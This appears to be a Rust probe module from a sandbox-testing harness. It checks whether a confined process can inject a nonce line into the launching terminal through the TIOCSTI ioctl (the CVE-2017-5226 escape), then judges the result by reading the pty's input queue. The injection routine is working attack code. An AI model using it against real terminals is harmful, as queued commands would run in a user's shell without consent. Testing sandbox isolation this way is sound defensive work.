//! tiocsti: push a command into the terminal the payload was started from.

use crate::kit::{with_args, wrong_state};
use crate::world::World;
use crate::{
    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
    ProbeMeta, RunObservation, Steps,
};
use nix::errno::Errno;
use nix::fcntl::{fcntl, open, FcntlArg, OFlag};
use nix::sys::stat::Mode;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};

pub struct Tiocsti;

static META: ProbeMeta = ProbeMeta {
    id: "tiocsti",
    title: "inject keystrokes into the outside's terminal (TIOCSTI)",
    technique: "The TIOCSTI ioctl pushes a byte into a terminal's input queue as if typed, so a \
        sandboxed process sharing the user's terminal can queue a command that the user's shell \
        runs after the sandbox exits (bubblewrap's CVE-2017-5226). The outside starts the \
        payload on a pseudo-terminal it holds; the payload injects a fresh nonce line through \
        /dev/tty and every terminal descriptor it has. A new session (setsid) takes the \
        controlling terminal away; CAP_SYS_ADMIN still allows TIOCSTI on any terminal fd. \
        The verdict depends on the kernel: one built without legacy TIOCSTI (Debian 13's 6.12, \
        dev.tty.legacy_tiocsti=0) refuses it to every process without CAP_SYS_ADMIN in the \
        initial namespace, so an unprivileged or user-namespaced payload is stopped there by the \
        kernel itself; Debian 12's 6.1 has no such switch.",
    oracle: "The outside reads the terminal's input queue (from its own slave descriptor) and \
        finds the nonce line there.",
    layers: &[
        Layer::NewSession,
        Layer::Caps,
        Layer::Uid,
        Layer::UserNs,
        Layer::Seccomp,
    ],
    references: &[
        "CVE-2017-5226",
        "ioctl_tty(2) TIOCSTI",
        "sysctl dev.tty.legacy_tiocsti",
    ],
    class: ProbeClass::Plain,
};

struct State {
    nonce: String,
    /// The pty master: kept open so the terminal stays alive during the run.
    _master: OwnedFd,
}

fn inject(steps: &mut Steps, fd: RawFd, label: &str, text: &str) -> bool {
    steps
        .call(
            "push the nonce into the terminal's input",
            format!("ioctl({label}, TIOCSTI, {:?})", text),
            || {
                for byte in text.bytes() {
                    // SAFETY: TIOCSTI reads one byte from the pointer, which points at `byte`.
                    Errno::result(unsafe { libc::ioctl(fd, libc::TIOCSTI, &byte) })?;
                }
                Ok(())
            },
        )
        .is_some()
}

impl Probe for Tiocsti {
    fn meta(&self) -> &'static ProbeMeta {
        &META
    }

    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
        let nonce = world.fresh_secret().map_err(ProbeError::world(META.id))?;
        let pty = nix::pty::openpty(None, None).map_err(|errno| ProbeError::Arrange {
            probe: META.id,
            step: "openpty".into(),
            source: std::io::Error::from(errno),
        })?;
        Ok(Arrangement::new(
            vec![kv("text", &nonce)],
            State {
                nonce,
                _master: pty.master,
            },
        )
        .with_controlling_tty(pty.slave))
    }

    fn attempt(&self, args: &[String]) -> InsideReport {
        with_args(META.id, args, |args, steps| {
            let line = format!("{}\n", args.str("text")?);
            let tty = steps.call(
                "open the controlling terminal",
                "open(/dev/tty, O_RDWR)",
                || {
                    open("/dev/tty", OFlag::O_RDWR | OFlag::O_CLOEXEC, Mode::empty())
                        // SAFETY: `open` just returned this descriptor; nothing else owns it.
                        .map(|fd| unsafe { OwnedFd::from_raw_fd(fd) })
                },
            );
            if let Some(tty) = tty {
                if inject(steps, tty.as_raw_fd(), "/dev/tty", &line) {
                    return Ok(());
                }
            }
            for fd in 0..=2 {
                if nix::unistd::isatty(fd).unwrap_or(false)
                    && inject(steps, fd, &format!("fd {fd}"), &line)
                {
                    return Ok(());
                }
            }
            Ok(())
        })
    }

    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
        let Some(slave) = arrangement.controlling_tty.as_ref() else {
            return wrong_state(META.id);
        };
        let queued = read_input_queue(slave);
        let Ok(state) = arrangement.state.downcast::<State>() else {
            return wrong_state(META.id);
        };
        match queued {
            Ok(text) if text.contains(&state.nonce) => Judgement::escaped(
                "the nonce line sits in the outside terminal's input queue (a shell would run it)",
            ),
            Ok(text) => {
                let evidence = run
                    .inside
                    .map(|r| r.failures())
                    .unwrap_or_else(|| "no inside report".into());
                Judgement::blocked(format!(
                    "the terminal's input queue holds {} byte(s), no nonce; {evidence}",
                    text.len()
                ))
            }
            Err(e) => Judgement::inconclusive(format!("reading the terminal's input failed: {e}")),
        }
    }
}

/// Everything queued as input on the terminal, read without blocking.
fn read_input_queue(slave: &OwnedFd) -> Result<String, Errno> {
    let fd = slave.as_raw_fd();
    let flags = OFlag::from_bits_truncate(fcntl(fd, FcntlArg::F_GETFL)?);
    fcntl(fd, FcntlArg::F_SETFL(flags | OFlag::O_NONBLOCK))?;
    let mut out = Vec::new();
    let mut buf = [0u8; 512];
    loop {
        match nix::unistd::read(fd, &mut buf) {
            Ok(0) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
            Err(Errno::EAGAIN) | Err(Errno::EIO) => break,
            Err(Errno::EINTR) => continue,
            Err(e) => return Err(e),
        }
    }
    Ok(String::from_utf8_lossy(&out).into_owned())
}
